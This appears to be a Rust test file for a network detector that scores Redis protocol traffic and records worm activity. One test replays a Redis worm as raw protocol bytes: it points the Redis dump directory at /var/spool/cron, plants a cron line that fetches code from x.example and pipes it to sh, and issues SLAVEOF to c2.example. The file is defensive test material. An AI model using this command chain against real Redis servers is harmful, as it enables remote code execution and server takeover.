use super::parse::taste;
use crate::testing::Bed;

fn check(bytes: &[u8], port: u16, is: bool) {
    assert_eq!(taste(bytes, port) > 80, is, "{bytes:?}");
}

#[test]
fn commands_are_known_on_any_port() {
    check(b"*1\r\n$4\r\nPING\r\n", 80, true);
    check(b"INFO\r\n", 6379, true);
    check(b"INFO\r\n", 80, false);
    check(b"*\r\n", 6379, false);
    check(b"", 6379, false);
}

#[test]
fn a_worm_is_told_step_by_step() {
    let bed = Bed::new();
    bed.says(
        "10.42.3.6:6379",
        &[
            (b"*1\r\n$4\r\nPING\r\n", "+PONG"),
            (b"INFO\r\n", "redis_version"),
            (b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n", "+OK"),
            (b"*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$28\r\n\n* * * * * curl x.example|sh\n\r\n", "+OK"),
            (b"*3\r\n$7\r\nSLAVEOF\r\n$9\r\nc2.example\r\n", ""),
        ],
    );
    bed.check("redis: CONFIG SET dir /var/spool/cron");
    bed.check("* * * * * curl x.example|sh");
}

#[test]
fn lengths_are_bounded() {
    let bed = Bed::new();
    bed.guest("10.42.3.6:6379", |mut stream| async move {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        stream.write_all(b"*2\r\n$3\r\nSET\r\n$99999999999\r\n").await.unwrap();
        assert_eq!(stream.read(&mut [0; 16]).await.unwrap(), 0);
    });
}
